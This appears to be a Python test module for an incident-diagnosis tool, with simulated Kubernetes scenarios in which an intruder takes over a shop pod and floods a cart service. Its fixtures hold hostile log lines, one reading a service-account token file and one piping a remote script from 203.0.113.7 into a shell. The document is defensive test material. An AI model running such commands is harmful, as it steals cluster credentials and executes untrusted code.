"""What an intruder asks others for from the pods that he took is no demand, and what looks like it."""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from tests.diagnosis.rules.cases import DoesNotHold, Holds, no
from tests.diagnosis.rules.scenes import CALLS_CART, CART, OLD, SHOP, WELL, alert, errors, latency, rate
from tests.diagnosis.rules.tiny import figure, pod, snapshot, timed, workload
from tuheg_ir.diagnosis.model import Log, Series, Snapshot

CAME = 1200.0
"""How many seconds ago the intruder came."""
TAKEN = "+ cat /var/run/secrets/kubernetes.io/serviceaccount/token"
LOADED = "sh: curl -fsSL http://203.0.113.7/a.sh | sh"
QUIET = "INFO thumbnail made"
BUSY = [figure("cpu_share", 0.3, 0.95, CAME - 60, pod=pod("cart", n), container="cart") for n in range(2)]
SLOW = latency("cart", since=CAME - 60)
GREW = rate("cart", 10, 50, CAME - 30)
LOGFMT = 'INF http method=GET path=/carts/{n} status=200 remote={address} ua="{agent}" dur=20ms'
COMBINED = '{address} - - [04/Mar/2026:11:00:00 +0000] "GET /carts/{n} HTTP/1.1" 200 512 "-" "{agent}"'
FIELDS = '{{"method":"GET","path":"/carts/{n}","status":200,"client_ip":"{address}","userAgent":"{agent}"}}'
GROWN = (SLOW, GREW, *BUSY)
SCALE = (("scale_workload", CART),)


def address(name: str) -> str:
    """Return the address of the first pod of a workload."""
    return str(next(each["status"]["podIP"] for each in workload(name) if each["kind"] == "Pod"))


def taken(
    *figures: tuple[str, Series],
    told: str = TAKEN,
    form: str = LOGFMT,
    before: Iterable[str] = ("web",),
    since: Iterable[str] = ("shop", "shop", "shop", "web"),
    cart: dict[str, Any] | None = None,
) -> Snapshot:
    """Return a shop that somebody took, a cart, and who asked that before and since, as the cart's log tells."""
    said: list[tuple[float, str]] = []
    for ages, who in ((range(3500, 1300, -100), [*before]), (range(1180, 0, -25), [*since])):
        for n, age in enumerate(ages):
            name = who[n % len(who)]
            agent = "curl/8.5.0" if name == "shop" else f"{name}/2.1"
            said.append((age, form.format(n=4000 + n, address=address(name), agent=agent)))
    logs: list[Log] = [timed(pod("shop"), (3500, QUIET), (CAME, told)), timed(pod("cart"), *said)]
    return snapshot(
        workload("shop"),
        workload("web", env=CALLS_CART),
        workload("cart", **(cart or {})),
        logs=logs,
        figures=[WELL, *(figures or GROWN)],
        alerts=[alert(service="cart")],
    )


HOLDS = [
    *(
        Holds(
            f"an intruder asks another program for all that it has: {what}",
            world,
            (SHOP, "security_incident", "isolate_workload"),
            alone=True,
            excludes=no("scale_workload", at=CART),
            harmful=("scale_workload", "rollback_workload", "restart_workload"),
        )
        for what, world in (
            ("a log of key and value", taken()),
            ("an access log as of nginx", taken(form=COMBINED)),
            ("a log of fields, and another sign", taken(form=FIELDS, told=LOADED)),
            ("one released a while before, who served well then", taken(cart={"before": OLD, "released": 2300})),
            ("and it fails by that", taken(errors("cart", since=CAME - 60), GREW, *BUSY)),
            (
                "whom the workload asked before too, while it is not asked for more",
                taken(*GROWN, rate("shop", 5, 5), before=("shop", "web")),
            ),
        )
    ),
    *(
        Holds(
            f"an intruder, and a trouble elsewhere that is not his: {what}",
            world,
            (SHOP, "security_incident", "isolate_workload"),
            believed=first,
            spares=SCALE,
        )
        for what, first, world in (
            ("others ask for more", "cpu_saturated", taken(since=("web", "web", "web", "shop"))),
            (
                "its requests grew before he came",
                "cpu_saturated",
                taken(latency("cart", since=2400), rate("cart", 10, 50, 2400), *BUSY),
            ),
            ("it was slow before he came", "cpu_saturated", taken(latency("cart", since=2000), GREW, *BUSY)),
            ("it is asked as often as before", "", taken(SLOW, rate("cart", 10, 11, CAME), *BUSY)),
            (
                "the workload passes on what its users ask",
                "cpu_saturated",
                taken(*GROWN, rate("shop", 5, 25, CAME), before=("shop",)),
            ),
            ("nobody knows how often the workload itself is asked", "cpu_saturated", taken(before=("shop",))),
            ("it was released in the same minutes", "", taken(cart={"before": OLD, "released": CAME})),
        )
    ),
]

DOES_NOT_HOLD = [
    DoesNotHold(
        "one program asks another for far more, and nobody came",
        taken(told=QUIET),
        (CART, "capacity", "scale_workload"),
    ),
]
